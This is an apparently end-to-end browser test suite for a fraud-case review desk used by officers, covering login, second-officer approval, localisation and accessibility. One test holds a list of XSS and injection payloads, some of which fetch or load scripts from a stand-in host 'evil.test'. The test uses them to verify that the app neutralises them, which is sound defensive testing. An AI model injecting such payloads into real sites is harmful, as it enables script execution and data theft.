/** The desk as officers meet it: in a real browser, on a real store. */
import type { Browser, BrowserContext, Page } from 'playwright';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import type { Desk } from '../../desk/server.ts';
import { chromiumPath, openBrowser } from './browser.ts';
import { DOT, hire, openHouse, PASSWORD, see, signal } from './house.ts';

const hasBrowser = chromiumPath() !== null;
const where = hasBrowser ? '' : ' (skipped: no Chromium; set CHROMIUM to the path of one)';

describe.skipIf(!hasBrowser)(`an officer at the desk${where}`, async () => {
  const house = await openHouse();
  let browser: Browser;
  let desk: Desk;
  const opened: BrowserContext[] = [];
  /** What pages did that they must not: asked elsewhere, ran, or broke the policy. */
  const misdeeds: string[] = [];

  beforeAll(async () => {
    browser = (await openBrowser())!;
    desk = await house.open();
    await hire(house, 'aigerim', 'officer', 'Айгерим С.');
    await hire(house, 'daniyar', 'senior', 'Данияр К.');
    await hire(house, 'boss', 'admin', 'Boss');
  });
  afterAll(async () => {
    for (const context of opened) await context.close();
    await browser?.close();
    await house.close();
  });

  const newPage = async (options: Parameters<Browser['newContext']>[0] = {}): Promise<Page> => {
    const context = await browser.newContext({ locale: 'ru-KZ', ...options });
    opened.push(context);
    const page = await context.newPage();
    page.on('request', (asked) => {
      if (!asked.url().startsWith(`${desk.url}/`)) misdeeds.push(`asked ${asked.url()}`);
    });
    page.on('dialog', (dialog) => {
      misdeeds.push(`dialog ${dialog.message()}`);
      void dialog.dismiss();
    });
    page.on('console', (message) => {
      if (/Content Security Policy|Trusted Type/.test(message.text())) misdeeds.push(message.text());
    });
    page.on('pageerror', (error) => misdeeds.push(`error ${error.message}`));
    return page;
  };

  const logIn = async (page: Page, login: string): Promise<void> => {
    await page.goto(`${desk.url}/log-in`);
    await page.getByLabel('Логин').fill(login);
    await page.getByLabel('Пароль').fill(PASSWORD);
    await page.getByRole('button', { name: 'Войти' }).click();
    await page.waitForURL(/\/cases/);
  };

  const pyramid = (host: string) =>
    see(house, 'pyramid', [
      {
        url: `https://${host}/`,
        title: 'Клуб «Табыс»',
        text: 'Доход 2 % в день.\nПриглашайте друзей.',
        score: 0.97,
        signals: [
          signal('yield', 'доход 2 % в день', 2.5, 'ARRFR-1'),
          signal('referral', 'Приглашайте друзей', 1.5),
        ],
        picture: DOT,
      },
      { url: `https://${host}/about`, title: 'О нас', text: '', score: 0.6, signals: [], picture: null },
    ]);

  test('logs in, sees why a case is there, and confirms it; another approves it', async () => {
    const { id } = await pyramid('tabys-klub.test');
    const first = await newPage();
    await logIn(first, 'aigerim');
    await first.getByRole('link', { name: 'tabys-klub.test' }).click();
    expect(await first.locator('mark').allInnerTexts()).toEqual(['Доход 2 % в день1', 'Приглашайте друзей2']);
    expect(await first.getByText('критерий ARRFR-1').count()).toBe(1);
    await first.getByLabel('Нарушение подтверждаю').check();
    expect(await first.getByText('Наружу ничего не уйдёт').isVisible()).toBe(true);
    await first.getByLabel('Почему, своими словами').fill('Доход обещан за приглашённых.');
    await first.getByRole('button', { name: 'Записать решение' }).click();
    expect(await first.getByRole('status').textContent()).toContain('Теперь нужен второй сотрудник');
    expect(await first.getByText('одобрить должен другой сотрудник').isVisible()).toBe(true);
    expect(await first.getByRole('button', { name: 'Одобрить передачу' }).count()).toBe(0);

    const second = await newPage();
    await logIn(second, 'daniyar');
    await second.getByRole('link', { name: /Ждут второго/ }).click();
    await second.getByRole('link', { name: 'tabys-klub.test' }).click();
    expect(await second.getByText('Доход обещан за приглашённых.').first().isVisible()).toBe(true);
    await second.getByRole('button', { name: 'Одобрить передачу' }).click();
    expect(await second.getByRole('status').textContent()).toContain('Одобрено');
    expect((await house.stores.cases.get(id)).state).toMatchObject({
      is: 'approved',
      by: 'aigerim',
      approvedBy: 'daniyar',
    });
  });

  test('is refused as the second pair of eyes on a decision of her own, even by a form of her making', async () => {
    const { id } = await pyramid('own-decision.test');
    const page = await newPage();
    await logIn(page, 'aigerim');
    await page.goto(`${desk.url}/cases/${id}`);
    await page.getByLabel('Нарушение подтверждаю').check();
    await page.getByLabel('Почему, своими словами').fill('Доход обещан за приглашённых.');
    await page.getByRole('button', { name: 'Записать решение' }).click();
    await page.evaluate((action) => {
      const form = document.createElement('form');
      form.method = 'post';
      form.action = action;
      document.body.append(form);
      form.submit();
    }, `/cases/${id}/approval`);
    await page.waitForURL(/error=same_officer/);
    expect(await page.getByRole('alert').textContent()).toContain('одобрить должен другой сотрудник');
    expect((await house.stores.cases.get(id)).state.is).toBe('confirmed');
  });

  test('dismisses by keys alone', async () => {
    const { id } = await pyramid('by-keys.test');
    const page = await newPage();
    await logIn(page, 'aigerim');
    await page.goto(`${desk.url}/cases/${id}`);
    await page.getByLabel('Нарушение подтверждаю').focus();
    await page.keyboard.press('ArrowDown');
    expect(await page.getByLabel('Основание').isVisible()).toBe(false);
    await page.keyboard.press('Tab');
    await page.keyboard.type('Школьный проект о пирамидах.');
    await page.keyboard.press('Tab');
    await page.keyboard.press('Enter');
    await page.waitForURL(/done=dismissed/);
    expect((await house.stores.cases.get(id)).state).toMatchObject({ is: 'dismissed', by: 'aigerim' });
  });

  test('is shown the case anew when the machine saw the site again meanwhile', async () => {
    const it = await pyramid('moving.test');
    const page = await newPage();
    await logIn(page, 'aigerim');
    await page.goto(`${desk.url}/cases/${it.id}`);
    const seen = { ...it.seen, label: 'phishing' as const };
    await house.stores.cases.sight(
      it.subject,
      { label: 'phishing', score: 0.99, seen, reasons: [] },
      [],
      house.clock.now(),
    );
    await page.getByLabel('Нарушения нет').check();
    await page.getByLabel('Почему, своими словами').fill('Ничего нет.');
    await page.getByRole('button', { name: 'Записать решение' }).click();
    expect(await page.getByRole('alert').textContent()).toContain(
      'Дело изменилось, пока страница была открыта',
    );
    expect((await house.stores.cases.get(it.id)).state.is).toBe('open');
  });

  test('reads the desk in three languages and keeps the one chosen', async () => {
    const page = await newPage({ locale: 'en-GB' });
    await page.goto(`${desk.url}/log-in`);
    expect(await page.getByRole('heading', { level: 1 }).textContent()).toBe('Log in');
    await page.getByRole('link', { name: 'Қазақша' }).click();
    expect(await page.getByRole('heading', { level: 1 }).textContent()).toBe('Кіру');
    await page.goto(`${desk.url}/log-in`);
    expect(await page.locator('html').getAttribute('lang')).toBe('kk');
  });

  test('invites a person, who chooses a password and gets to work', async () => {
    const admin = await newPage();
    await logIn(admin, 'boss');
    await admin.goto(`${desk.url}/people`);
    await admin.getByLabel('Логин').fill('samal');
    await admin.getByLabel('Имя').fill('Самал Т.');
    await admin.getByRole('button', { name: 'Пригласить', exact: true }).click();
    const link = (await admin.locator('.invitation .code').textContent()) ?? '';
    const invited = await newPage();
    await invited.goto(link);
    expect(await invited.getByRole('heading', { level: 1 }).textContent()).toBe('Добро пожаловать, Самал Т.');
    await invited.getByLabel(/Пароль/).fill('алтын күз 2026 таңы');
    await invited.getByRole('button', { name: 'Сохранить и войти' }).click();
    await invited.waitForURL(/\/cases/);
    expect(await invited.locator('.who').textContent()).toContain('Самал Т.');
  });

  const HOSTILE = [
    '<script>top.ran=1;alert(1)</script>',
    '"><img src=x onerror="top.ran=1;fetch(\'https://evil.test/beacon\')">',
    "'><svg onload=alert(1)>",
    '</textarea></title></style><script src="https://evil.test/x.js"></script>',
    '<iframe srcdoc="<script>parent.ran=1</script>"></iframe>',
    '<meta http-equiv="refresh" content="0;url=https://evil.test/">',
    '<link rel=stylesheet href=https://evil.test/x.css><style>@import "https://evil.test/y.css"</style>',
    '<base href="https://evil.test/"><form action="https://evil.test/"><button>',
    '<a href="javascript:top.ran=1">click</a>',
    'javascript:top.ran=1',
    '\u202egnp.exe\u2066 \u200bhidden',
    '#{7*7}{{7*7}}<%= 7*7 %>&lt;b&gt;',
    '\u0000\ud800 broken',
    'https://evil.test/ www.evil.test',
  ];

  test('meets hostile words as words: nothing of them runs, loads, links or hides', async () => {
    const signals = HOSTILE.map((text, at) => ({ ...signal(text, text, 3 - at / 10, text), id: text }));
    const it = await see(house, 'pyramid', [
      {
        url: `https://hostile.test/?q=${encodeURIComponent(HOSTILE[1]!)}&r='"><script>alert(1)</script>`,
        title: HOSTILE.join(' '),
        text: HOSTILE.join('\n'),
        score: 0.95,
        signals,
        picture: new TextEncoder().encode('<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'),
        lang: '"><script>alert(1)</script>',
        hops: [
          {
            url: 'https://hostile.test/"><script>alert(1)</script>',
            status: 302,
            location: 'javascript:alert(1)',
          },
          { url: 'https://hostile.test/', status: 200, location: null },
        ],
      },
      { url: 'https://hostile.test/b', title: HOSTILE[0]!, text: '', score: 0.9, signals: [], picture: null },
    ]);
    misdeeds.length = 0;
    const page = await newPage();
    await logIn(page, 'aigerim');
    await page.goto(`${desk.url}/cases?search=${encodeURIComponent('"><script>alert(1)</script>')}`);
    await page.goto(`${desk.url}/cases`);
    expect(await page.getByRole('link', { name: 'hostile.test' }).count()).toBe(1);
    await page.goto(`${desk.url}/cases/${it.id}`);
    await page.getByLabel('Нарушение подтверждаю').check();
    await page.getByLabel('Почему, своими словами').fill(HOSTILE.slice(0, 11).join(' '));
    await page.getByRole('button', { name: 'Записать решение' }).click();
    await page.waitForURL(/done=confirmed/);
    await page.waitForLoadState('networkidle');

    expect(await page.evaluate(() => 'ran' in window)).toBe(false);
    const links = await page
      .locator('a[href]')
      .evaluateAll((all) => all.map((a) => (a as HTMLAnchorElement).href));
    expect(links.filter((href) => !href.startsWith(`${desk.url}/`))).toEqual([]);
    const foreign =
      'iframe, object, embed, base, form[action^="http"], meta[http-equiv], script:not([src^="/assets/"]), style, [style], [onerror], [onload], [onclick]';
    expect(await page.locator(foreign).count()).toBe(0);
    const text = await page.locator('.text').textContent();
    expect(text).toContain('<script>top.ran=1;alert(1)</script>');
    expect(text).toContain('⟨U+202E⟩gnp.exe⟨U+2066⟩ ⟨U+200B⟩hidden');
    expect(await page.locator('body').textContent()).not.toMatch(/\u202e|\u200b/);
    expect(misdeeds.filter((it) => !it.includes('Failed to load resource'))).toEqual([]);
  });

  test.each(['light', 'dark'] as const)(
    'needs no sideways scrolling in 320 pixels, which is also a window at zoom, in the %s theme',
    async (colorScheme) => {
      const { id } = await pyramid(
        `${'a-long-name-that-does-not-break-'.repeat(2)}${colorScheme}.test`.slice(-63),
      );
      const page = await newPage({ viewport: { width: 320, height: 640 }, colorScheme });
      await logIn(page, 'boss');
      for (const path of [
        '/cases',
        `/cases/${id}`,
        '/batches',
        '/people',
        '/nowhere',
        '/cases?search=none',
      ]) {
        await page.goto(desk.url + path);
        const overflow = await page.evaluate(() => document.documentElement.scrollWidth - innerWidth);
        expect([path, overflow]).toEqual([path, 0]);
      }
    },
  );

  test('has a visible mark on whatever the keyboard reaches, and a name on every control', async () => {
    const { id } = await pyramid('reachable.test');
    const page = await newPage();
    await logIn(page, 'aigerim');
    for (const path of ['/cases', `/cases/${id}`]) {
      await page.goto(desk.url + path);
      for (let n = 0; n < 25; n += 1) {
        await page.keyboard.press('Tab');
        const focused = await page.evaluate(() => {
          const it = document.activeElement!;
          if (it === document.body) return null;
          const outline = (pseudo?: string) => getComputedStyle(it, pseudo).outlineStyle;
          const label =
            (it as HTMLInputElement).labels?.[0]?.textContent ?? it.getAttribute('aria-labelledby') ?? '';
          return {
            tag: it.tagName,
            isMarked: outline() !== 'none' || outline('::after') !== 'none',
            isNamed: `${it.textContent}${label}${it.getAttribute('aria-label') ?? ''}`.trim() !== '',
          };
        });
        if (focused === null) break;
        expect(focused).toEqual({ tag: focused.tag, isMarked: true, isNamed: true });
      }
    }
  });
});
